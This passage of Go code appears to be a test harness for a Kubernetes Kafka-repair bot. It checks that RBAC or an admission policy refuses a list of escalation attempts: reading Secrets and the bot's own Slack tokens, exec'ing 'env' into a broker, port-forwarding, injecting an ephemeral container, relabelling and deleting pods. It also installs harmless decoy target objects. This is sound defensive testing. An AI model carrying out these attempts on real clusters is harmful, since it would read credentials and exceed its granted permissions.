			_, err := c.Bot.CoreV1().ConfigMaps(c.BotNamespace).List(ctx, metav1.ListOptions{})
			return err
		}},

		// ---- Secrets and other ways in --------------------------------------
		{Name: "get the Kafka users' Secret", Layer: ByRBAC, Try: func(ctx context.Context, c Cluster) error {
			_, err := c.Bot.CoreV1().Secrets(c.Namespace).Get(ctx, KafkaSecret, metav1.GetOptions{})
			return err
		}},
		{Name: "list Secrets in the bot's namespace (its own Slack tokens)", Layer: ByRBAC, Try: func(ctx context.Context, c Cluster) error {
			_, err := c.Bot.CoreV1().Secrets(c.BotNamespace).List(ctx, metav1.ListOptions{})
			return err
		}},
		{Name: "exec into a broker", Layer: ByRBAC, Try: func(ctx context.Context, c Cluster) error {
			return c.Bot.CoreV1().RESTClient().Post().Namespace(c.Namespace).Resource("pods").Name(ControllerPod).
				SubResource("exec").Param("command", "env").Param("stdout", "true").Do(ctx).Error()
		}},
		{Name: "attach to a broker", Layer: ByRBAC, Try: func(ctx context.Context, c Cluster) error {
			return c.Bot.CoreV1().RESTClient().Post().Namespace(c.Namespace).Resource("pods").Name(ControllerPod).
				SubResource("attach").Param("stdout", "true").Do(ctx).Error()
		}},
		{Name: "port-forward to a broker", Layer: ByRBAC, Try: func(ctx context.Context, c Cluster) error {
			return c.Bot.CoreV1().RESTClient().Post().Namespace(c.Namespace).Resource("pods").Name(ControllerPod).
				SubResource("portforward").Param("ports", "9092").Do(ctx).Error()
		}},
		{Name: "add an ephemeral container to a broker", Layer: ByRBAC, Try: func(ctx context.Context, c Cluster) error {
			p, err := c.Bot.CoreV1().Pods(c.Namespace).Get(ctx, ControllerPod, metav1.GetOptions{})
			if err != nil {
				return fmt.Errorf("reading the pod: %w", err)
			}
			p.Spec.EphemeralContainers = append(p.Spec.EphemeralContainers, corev1.EphemeralContainer{
				EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "debugger", Image: "busybox:latest", Command: []string{"env"}}})
			_, err = c.Bot.CoreV1().Pods(c.Namespace).UpdateEphemeralContainers(ctx, p.Name, p, metav1.UpdateOptions{DryRun: dryRun})
			return err
		}},
		{Name: "relabel another pod as the bot's", Layer: ByAny, Try: func(ctx context.Context, c Cluster) error {
			_, err := c.Bot.CoreV1().Pods(c.Namespace).Patch(ctx, OperatorPod, types.MergePatchType,
				[]byte(`{"metadata":{"labels":{"app.kubernetes.io/managed-by":"kafkabot"}}}`), metav1.PatchOptions{DryRun: dryRun})
			return err
		}},
		{Name: "create a pod in the bot's own namespace", Layer: ByRBAC, Try: func(ctx context.Context, c Cluster) error {
			p := c.DebugPod.DeepCopy()
			p.Namespace, p.ResourceVersion, p.UID = c.BotNamespace, "", ""
			_, err := c.Bot.CoreV1().Pods(c.BotNamespace).Create(ctx, p, metav1.CreateOptions{DryRun: dryRun})
			return err
		}},
	}
	return shapes
}

// deleteShape deletes an existing pod the bot must not delete.
func deleteShape(name, pod string) Shape {
	return Shape{Name: name, Layer: ByPolicy, Says: saysDelete, Try: func(ctx context.Context, c Cluster) error {
		return c.Bot.CoreV1().Pods(c.Namespace).Delete(ctx, pod, metav1.DeleteOptions{DryRun: dryRun})
	}}
}

// Check reports why err is not the refusal shape s expects, or nil when
// it is: Forbidden (or Invalid) from the expected layer, and from the
// policy with the expected rule's message.
func (s Shape) Check(err error) error {
	switch {
	case err == nil:
		return errors.New("admitted: the request succeeded")
	case !apierrors.IsForbidden(err) && !apierrors.IsInvalid(err):
		return fmt.Errorf("not refused by admission or RBAC (a refusal is 403 or 422): %w", err)
	}
	msg := err.Error()
	byPolicy := strings.Contains(msg, "ValidatingAdmissionPolicy '"+PolicyName+"'")
	switch s.Layer {
	case ByPolicy:
		if !byPolicy {
			return fmt.Errorf("refused, but not by the admission policy %s: %w", PolicyName, err)
		}
		if s.Says != "" && !strings.Contains(msg, s.Says) {
			return fmt.Errorf("refused by the policy, but not by the rule that says %q: %w", s.Says, err)
		}
	case ByRBAC:
		if byPolicy || !apierrors.IsForbidden(err) || !strings.Contains(msg, "cannot") {
			return fmt.Errorf("want an RBAC refusal (403, cannot ...): %w", err)
		}
	case ByAny:
		if !byPolicy && (!apierrors.IsForbidden(err) || !strings.Contains(msg, "cannot")) {
			return fmt.Errorf("want a refusal by RBAC or the policy: %w", err)
		}
	}
	return nil
}

// RefusedByPolicy reports whether err is a refusal by deploy/'s policy.
func RefusedByPolicy(err error) bool {
	return err != nil && (apierrors.IsForbidden(err) || apierrors.IsInvalid(err)) &&
		strings.Contains(err.Error(), "ValidatingAdmissionPolicy '"+PolicyName+"'")
}

// Install creates, as an admin, the objects the shapes aim at: in
// c.Namespace an operator pod, a KRaft controller pod, a combined node
// (CombinedPod, of a StatefulSet), a debug pod of the bot's for
// OtherBrokerName (when c.DebugPod is set), the operator's
// leader Lease, the Kafka users' Secret and the operator's ServiceAccount;
// in c.BotNamespace the settings ConfigMap when missing. Objects that
// already exist are left as they are. Its pods pass Pod Security
// "restricted" and are never scheduled. Uninstall removes what it created
// in c.Namespace.
func Install(ctx context.Context, admin kubernetes.Interface, c Cluster) error {
	ns := c.Namespace
	ctrl := true
	create := func(what string, err error) error {
		if err != nil && !apierrors.IsAlreadyExists(err) {
			return fmt.Errorf("hostile: creating %s: %w", what, err)
		}
		return nil
	}
	// The target pods pass Pod Security "restricted" (so Install works in
	// a Kafka namespace that enforces it) and are never scheduled (on a
	// cluster with nodes, no kubelet tries to pull their images).
	plain := func(name string, labels map[string]string, owner *metav1.OwnerReference) *corev1.Pod {
		p := &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns, Labels: labels},
			Spec: corev1.PodSpec{
				Containers: []corev1.Container{{Name: "main", Image: "quay.io/strimzi/operator:0.45.0",
					SecurityContext: &corev1.SecurityContext{
						AllowPrivilegeEscalation: ptr.To(false), RunAsNonRoot: ptr.To(true),
						Capabilities:   &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}},
						SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault},
					}}},
				AutomountServiceAccountToken: ptr.To(false),
				NodeSelector:                 map[string]string{NeverScheduledLabel: "true"},
			},
		}
		if owner != nil {
			p.OwnerReferences = []metav1.OwnerReference{*owner}
		}
		return p
	}
	// The operator pod belongs to a ReplicaSet that exists: a cluster's
	// garbage collector deletes a pod whose owner is absent. The
	// ReplicaSet wants no pods and selects none (so a live ReplicaSet
	// controller neither adopts, deletes nor releases the pod), and the
	// pod's reference to it is not a controller reference.
	rsLabels := map[string]string{"kafkabot.io/hostile-replicaset": "selects-no-pod"}
	rs, err := admin.AppsV1().ReplicaSets(ns).Create(ctx, &appsv1.ReplicaSet{
		ObjectMeta: metav1.ObjectMeta{Name: OperatorReplicaSet, Namespace: ns},
		Spec: appsv1.ReplicaSetSpec{Replicas: ptr.To[int32](0), Selector: &metav1.LabelSelector{MatchLabels: rsLabels},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: rsLabels},
				Spec: plain("template", nil, nil).Spec}},
	}, metav1.CreateOptions{})
	if apierrors.IsAlreadyExists(err) {
		rs, err = admin.AppsV1().ReplicaSets(ns).Get(ctx, OperatorReplicaSet, metav1.GetOptions{})
	}
	if err != nil {
		return fmt.Errorf("hostile: creating ReplicaSet %s: %w", OperatorReplicaSet, err)
	}
	operator := plain(OperatorPod, map[string]string{"name": "strimzi-cluster-operator", "strimzi.io/kind": "cluster-operator"},
		&metav1.OwnerReference{APIVersion: "apps/v1", Kind: "ReplicaSet", Name: rs.Name, UID: rs.UID})
	controller := plain(ControllerPod, map[string]string{"strimzi.io/kind": "Kafka", "strimzi.io/cluster": "my-cluster",
		"strimzi.io/name": "my-cluster-kafka", "strimzi.io/controller-role": "true", "strimzi.io/broker-role": "false"},
		&metav1.OwnerReference{APIVersion: "core.strimzi.io/v1beta2", Kind: "StrimziPodSet", Name: "my-cluster-controllers", UID: "0a000000-0000-4000-8000-000000000002", Controller: &ctrl})
	// A plain StatefulSet's combined (broker+controller) node, its roles
	// only in its properties file. The StatefulSet wants no pods and
	// selects none, like the operator's ReplicaSet.
	stsLabels := map[string]string{"kafkabot.io/hostile-statefulset": "selects-no-pod"}
	sts, err := admin.AppsV1().StatefulSets(ns).Create(ctx, &appsv1.StatefulSet{
		ObjectMeta: metav1.ObjectMeta{Name: CombinedStatefulSet, Namespace: ns},
		Spec: appsv1.StatefulSetSpec{Replicas: ptr.To[int32](0), Selector: &metav1.LabelSelector{MatchLabels: stsLabels},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: stsLabels}, Spec: plain("template", nil, nil).Spec}},
	}, metav1.CreateOptions{})
	if apierrors.IsAlreadyExists(err) {
		sts, err = admin.AppsV1().StatefulSets(ns).Get(ctx, CombinedStatefulSet, metav1.GetOptions{})
	}
	if err != nil {
		return fmt.Errorf("hostile: creating StatefulSet %s: %w", CombinedStatefulSet, err)
	}
	combined := plain(CombinedPod, map[string]string{"app": "kafka"},
		&metav1.OwnerReference{APIVersion: "apps/v1", Kind: "StatefulSet", Name: sts.Name, UID: sts.UID, Controller: &ctrl})
	_, err = admin.SchedulingV1().PriorityClasses().Create(ctx, &schedulingv1.PriorityClass{
		ObjectMeta: metav1.ObjectMeta{Name: HighPriorityClass}, Value: 1000000,
		PreemptionPolicy: ptr.To(corev1.PreemptNever), Description: "kafkabot hostile-shapes target; no pod uses it",
	}, metav1.CreateOptions{})
	if err := create("PriorityClass "+HighPriorityClass, err); err != nil {
		return err
	}
	pods := []*corev1.Pod{operator, controller, combined}
	// An existing debug pod of the bot's, for another broker, for the
	// update shapes: created by the admin, never scheduled.
	if c.DebugPod != nil {
		debug := c.DebugPod.DeepCopy()
		debug.Namespace, debug.ResourceVersion, debug.UID = ns, "", ""
		debug.Name = OtherDebugPod
		debug.Labels["kafkabot/broker"] = OtherBrokerName
		debug.Labels["kafkabot/repair-id"] = "hostile-" + OtherBrokerName
		debug.Spec.Volumes[0].PersistentVolumeClaim.ClaimName = "data-" + OtherBrokerName
		debug.Spec.NodeSelector = map[string]string{NeverScheduledLabel: "true"}
		pods = append(pods, debug)
	}
	for _, p := range pods {
		_, err := admin.CoreV1().Pods(ns).Create(ctx, p, metav1.CreateOptions{})
		if err := create("pod "+p.Name, err); err != nil {
			return err
		}
	}
	_, err = admin.CoordinationV1().Leases(ns).Create(ctx, &coordinationv1.Lease{
		ObjectMeta: metav1.ObjectMeta{Name: ForeignLease, Namespace: ns},
		Spec:       coordinationv1.LeaseSpec{HolderIdentity: ptr.To(OperatorPod)},
	}, metav1.CreateOptions{})
	if err := create("Lease "+ForeignLease, err); err != nil {
		return err
	}
	_, err = admin.CoreV1().Secrets(ns).Create(ctx, &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: KafkaSecret, Namespace: ns},
		StringData: map[string]string{"password": "placeholder-not-a-secret"},
	}, metav1.CreateOptions{})
	if err := create("Secret "+KafkaSecret, err); err != nil {
		return err
	}
	_, err = admin.CoreV1().ServiceAccounts(ns).Create(ctx, &corev1.ServiceAccount{
		ObjectMeta: metav1.ObjectMeta{Name: "strimzi-cluster-operator", Namespace: ns}}, metav1.CreateOptions{})
	if err := create("ServiceAccount strimzi-cluster-operator", err); err != nil {
		return err
	}
	_, err = admin.CoreV1().ConfigMaps(c.BotNamespace).Create(ctx, &corev1.ConfigMap{
		ObjectMeta: metav1.ObjectMeta{Name: c.SettingsConfigMap, Namespace: c.BotNamespace},
		Data:       map[string]string{"APPROVERS": "U0APPROVER"},
	}, metav1.CreateOptions{})
	return create("ConfigMap "+c.SettingsConfigMap, err)
}

// Uninstall deletes, as an admin, what Install created in c.Namespace (the
// bot's settings ConfigMap stays). Objects already gone are not an error.
func Uninstall(ctx context.Context, admin kubernetes.Interface, c Cluster) error {
	var errs []error
	gone := func(what string, err error) {
		if err != nil && !apierrors.IsNotFound(err) {
			errs = append(errs, fmt.Errorf("hostile: deleting %s: %w", what, err))
		}
	}
	gone("ReplicaSet "+OperatorReplicaSet, admin.AppsV1().ReplicaSets(c.Namespace).Delete(ctx, OperatorReplicaSet, metav1.DeleteOptions{}))
	gone("PriorityClass "+HighPriorityClass, admin.SchedulingV1().PriorityClasses().Delete(ctx, HighPriorityClass, metav1.DeleteOptions{}))
	gone("StatefulSet "+CombinedStatefulSet, admin.AppsV1().StatefulSets(c.Namespace).Delete(ctx, CombinedStatefulSet, metav1.DeleteOptions{}))
	for _, p := range []string{OperatorPod, ControllerPod, CombinedPod, OtherDebugPod} {
		gone("pod "+p, admin.CoreV1().Pods(c.Namespace).Delete(ctx, p, metav1.DeleteOptions{GracePeriodSeconds: ptr.To[int64](0)}))
	}
	gone("Lease "+ForeignLease, admin.CoordinationV1().Leases(c.Namespace).Delete(ctx, ForeignLease, metav1.DeleteOptions{}))
	gone("Secret "+KafkaSecret, admin.CoreV1().Secrets(c.Namespace).Delete(ctx, KafkaSecret, metav1.DeleteOptions{}))
	gone("ServiceAccount strimzi-cluster-operator", admin.CoreV1().ServiceAccounts(c.Namespace).Delete(ctx, "strimzi-cluster-operator", metav1.DeleteOptions{}))
	return errors.Join(errs...)
}
